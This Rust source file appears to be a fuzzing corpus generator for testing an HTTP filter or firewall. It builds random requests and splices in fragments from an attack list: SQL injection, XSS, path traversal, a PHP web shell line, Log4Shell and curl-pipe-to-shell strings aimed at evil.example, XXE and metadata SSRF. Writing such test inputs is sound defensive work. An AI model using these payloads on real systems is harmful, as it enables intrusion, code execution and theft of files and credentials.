//! Requests and responses of many shapes, with pieces of attacks at random places.

use super::exchange::Sent;
use super::random::Random;

/// What people and programs send.
const WORDS: &[&str] = &[
    "hello",
    "1",
    "42",
    "-1",
    "0",
    "",
    "a b c",
    "Jürgen Müller",
    "Miles O'Brien",
    "2026-08-02T10:20:30Z",
    "someone@example.com",
    "https://www.example.com/a/b.html?c=d#e",
    "/images/logo.png",
    "true",
    "null",
    "550e8400-e29b-41d4-a716-446655440000",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln",
    "The quick brown fox; it jumps (over) the lazy dog.",
    "SELECT a plan that suits you",
    "100 % wool & cotton <3",
    "aGVsbG8gd29ybGQ=",
    "file.tar.gz",
];

/// What attackers do, and what is odd.
const ATTACKS: &[&str] = &[
    "' or 1=1-- ",
    "1 UNION SELECT password FROM users",
    "1' AND SLEEP(5)#",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(document.cookie)",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "; cat /etc/passwd",
    "$(curl http://evil.example/x|sh)",
    "`id`",
    "| ping -c 1 127.0.0.1",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "<?php system($_GET['c']); ?>",
    "php://filter/convert.base64-encode/resource=index",
    "O:8:\"stdClass\":0:{}",
    "__proto__[a]=1",
    "require('child_process').exec('id')",
    "() { :;}; echo x",
    "\r\nSet-Cookie: a=b",
    "http://169.254.169.254/latest/meta-data/",
    "/.git/config",
    "wp-config.php.bak",
    "<!ENTITY x SYSTEM \"file:///etc/passwd\">",
    "%2e%2e%2f",
    "%u003cscript%u003e",
    "&lt;script&gt;",
    "\\x3cscript\\x3e",
    "un/**/ion sel/**/ect",
    "\u{0}",
    "\u{ff1c}script\u{ff1e}",
    "%",
    "%zz",
    "*)(uid=*))(|(uid=*",
    "rO0ABXNyABFqYXZh",
    "%{tx.0}",
    "nessus",
    "java.lang.Runtime",
    "xp_cmdshell",
];

const NAMES: &[&str] = &[
    "id",
    "q",
    "name",
    "password",
    "a[b]",
    "user.name",
    "_ga",
    "PHPSESSID",
    "json.a",
    "ID",
    "x y",
    "utm_source",
    "__proto__",
    "",
    "redirect_to",
];

const FIELDS: &[(&str, &str)] = &[
    ("Host", "www.example.com"),
    ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"),
    ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
    ("Accept-Language", "de,en-US;q=0.7,en;q=0.3"),
    ("Accept-Encoding", "gzip, deflate, br"),
    ("Connection", "keep-alive"),
    ("Referer", "https://www.example.com/a?b=c"),
    ("Upgrade-Insecure-Requests", "1"),
    ("Cookie", "_ga=GA1.2.3.4; PHPSESSID=d41d8cd98f00b204e9800998ecf8427e"),
    ("Authorization", "Basic c29tZW9uZTpzZWNyZXQ="),
    ("X-Forwarded-For", "192.0.2.9"),
    ("X-Requested-With", "XMLHttpRequest"),
    ("Range", "bytes=0-1"),
    ("Cache-Control", "no-cache"),
    ("Origin", "https://www.example.com"),
];

const FORM: &str = "application/x-www-form-urlencoded";

/// Makes requests; pieces of what was harvested elsewhere are among what it splices in.
pub struct Corpus<'a> {
    pub random: Random,
    pub harvest: &'a [Vec<u8>],
}

impl Corpus<'_> {
    pub fn sent(&mut self) -> Sent {
        let fields = [("Content-Type", "text/html"), ("Server", "nginx")];
        let body = self.text();
        let body =
            self.random.once_in(2).then(|| [b"<html><body>", &body[..], b"</body>"].concat());
        let status = [200, 200, 302, 404, 500][self.random.below(5)];
        Sent { request: self.request(), status, fields: fields.to_vec(), body, meddlings: vec![] }
    }

    fn request(&mut self) -> Vec<u8> {
        let method = self.random.one(&["GET", "GET", "POST", "POST", "PUT", "HEAD", "OPTIONS"]);
        let path =
            self.random.one(&["/", "/index.php", "/a/b/c.html", "/api/v1/items/7", "/x%20y"]);
        let mut head = format!("{method} {path}").into_bytes();
        if self.random.once_in(8) {
            head.extend(escaped(&self.attack()));
        }
        if !self.random.once_in(3) {
            head.push(b'?');
            head.extend(self.form());
        }
        head.extend_from_slice(b" HTTP/1.1\r\n");
        for (name, value) in FIELDS {
            if *name == "Host" || self.random.once_in(2) {
                head.extend_from_slice(format!("{name}: ").as_bytes());
                head.extend(one_line(self.spliced(value.as_bytes(), 12)));
                head.extend_from_slice(b"\r\n");
            }
        }
        let (kind, body) = if method.starts_with('P') { self.body() } else { ("", Vec::new()) };
        if !kind.is_empty() {
            let length = body.len();
            let told = format!("Content-Type: {kind}\r\nContent-Length: {length}\r\n");
            head.extend_from_slice(told.as_bytes());
        }
        [&head[..], b"\r\n", &body].concat()
    }

    fn body(&mut self) -> (&'static str, Vec<u8>) {
        match self.random.below(7) {
            0 | 1 => (FORM, self.form()),
            2 | 3 => {
                let json = self.json(0);
                let cut = if self.random.once_in(12) {
                    self.random.below(json.len())
                } else {
                    json.len()
                };
                ("application/json", json[..cut].to_vec())
            }
            4 => ("text/xml", self.xml(0)),
            5 => ("multipart/form-data; boundary=B0unDary", self.multipart()),
            _ => ("text/plain", self.text()),
        }
    }

    fn form(&mut self) -> Vec<u8> {
        let count = 1 + self.random.below(5);
        let pairs = (0..count).map(|_| {
            let (name, value) = (self.name(), self.text());
            [escaped(&name), b"=".to_vec(), escaped(&value)].concat()
        });
        pairs.collect::<Vec<_>>().join(&b'&')
    }

    fn json(&mut self, depth: usize) -> Vec<u8> {
        let count = self.random.below(4);
        match self.random.below(if depth < 3 { 4 } else { 2 }) {
            0 => quoted(&self.text()),
            1 => self.random.one(&["1", "-1.5e3", "true", "null", "0"]).as_bytes().to_vec(),
            2 => {
                let all: Vec<_> = (0..count).map(|_| self.json(depth + 1)).collect();
                [b"[", &all.join(&b',')[..], b"]"].concat()
            }
            _ => {
                let all = (0..count).map(|_| {
                    let name = quoted(&self.name());
                    [name, self.json(depth + 1)].join(&b':')
                });
                [b"{", &all.collect::<Vec<_>>().join(&b',')[..], b"}"].concat()
            }
        }
    }

    fn xml(&mut self, depth: usize) -> Vec<u8> {
        let name = self.random.one(&["a", "item", "soap:Body", "user"]);
        let (attribute, text) = (quoted_xml(&self.text()), quoted_xml(&self.text()));
        let mut out = format!("<{name} b=\"").into_bytes();
        out.extend_from_slice(&[&attribute[..], b"\">", &text].concat());
        if depth < 3 {
            let count = self.random.below(3);
            (0..count).for_each(|_| out.extend(self.xml(depth + 1)));
        }
        out.extend_from_slice(format!("</{name}>").as_bytes());
        out
    }

    fn multipart(&mut self) -> Vec<u8> {
        let mut out = Vec::new();
        for _ in 0..1 + self.random.below(3) {
            let name = String::from_utf8_lossy(&self.name()).into_owned();
            let file = self.random.one(&["", "; filename=\"a.png\"", "; filename=\"x.php\""]);
            let said = format!("Content-Disposition: form-data; name=\"{name}\"{file}\r\n\r\n");
            out.extend_from_slice(b"--B0unDary\r\n");
            out.extend_from_slice(said.as_bytes());
            out.extend(self.text());
            out.extend_from_slice(b"\r\n");
        }
        out.extend_from_slice(self.random.one(&[&b"--B0unDary--\r\n"[..], b"--B0unDary", b""]));
        out
    }

    fn name(&mut self) -> Vec<u8> {
        let name = self.random.one(NAMES).as_bytes();
        self.spliced(name, 20)
    }

    /// One to three words, mostly innocent.
    fn text(&mut self) -> Vec<u8> {
        let count = 1 + self.random.below(3);
        let words: Vec<_> = (0..count).map(|_| self.random.one(WORDS).as_bytes()).collect();
        self.spliced(&words.join(&b' '), 4)
    }

    /// Once in so many times with a piece of an attack somewhere in it.
    fn spliced(&mut self, text: &[u8], times: usize) -> Vec<u8> {
        if !self.random.once_in(times) {
            return text.to_vec();
        }
        let (before, after) = text.split_at(self.random.below(text.len() + 1));
        [before, &self.attack(), after].concat()
    }

    fn attack(&mut self) -> Vec<u8> {
        if self.harvest.is_empty() || self.random.once_in(2) {
            return self.random.one(ATTACKS).as_bytes().to_vec();
        }
        let one = &self.harvest[self.random.below(self.harvest.len())];
        self.random.piece(one, 60).to_vec()
    }

    /// A request with some of its bytes changed, and maybe with the end of another.
    pub fn mutated(&mut self, sent: &Sent, other: &Sent) -> Sent {
        const ODD: &[u8] = b"'\"<>%&;(){}\\/\0\n .-+=*$|`aA0\xff\x80\xc0";
        let mut made = sent.request.clone();
        if self.random.once_in(3) {
            let cut = self.random.below(other.request.len());
            made.extend_from_slice(&other.request[cut..]);
        }
        for _ in 0..1 + self.random.below(8) {
            let at = self.random.below(made.len());
            match self.random.below(4) {
                0 => made.insert(at, ODD[self.random.below(ODD.len())]),
                1 => drop(made.drain(at..(at + self.random.below(4)).min(made.len()))),
                _ => made[at] = ODD[self.random.below(ODD.len())],
            }
        }
        Sent { request: made, ..sent.clone() }
    }
}

/// In a query; now and then what would not need it is escaped too.
fn escaped(text: &[u8]) -> Vec<u8> {
    let one = |(at, byte): (usize, &u8)| match byte {
        b' ' => b"+".to_vec(),
        byte if byte.is_ascii_alphanumeric() && at % 13 != 12 => vec![*byte],
        b'.' | b'-' | b'_' | b'/' => vec![*byte],
        byte => format!("%{byte:02X}").into_bytes(),
    };
    text.iter().enumerate().flat_map(one).collect()
}

fn quoted(text: &[u8]) -> Vec<u8> {
    serde_json::to_vec(&String::from_utf8_lossy(text)).expect("a text")
}

fn quoted_xml(text: &[u8]) -> Vec<u8> {
    let one = |byte: &u8| match byte {
        b'<' => b"&lt;".to_vec(),
        b'&' => b"&amp;".to_vec(),
        b'"' => b"&quot;".to_vec(),
        byte => vec![*byte],
    };
    text.iter().flat_map(one).collect()
}

fn one_line(mut text: Vec<u8>) -> Vec<u8> {
    text.retain(|byte| !matches!(byte, b'\r' | b'\n'));
    text
}
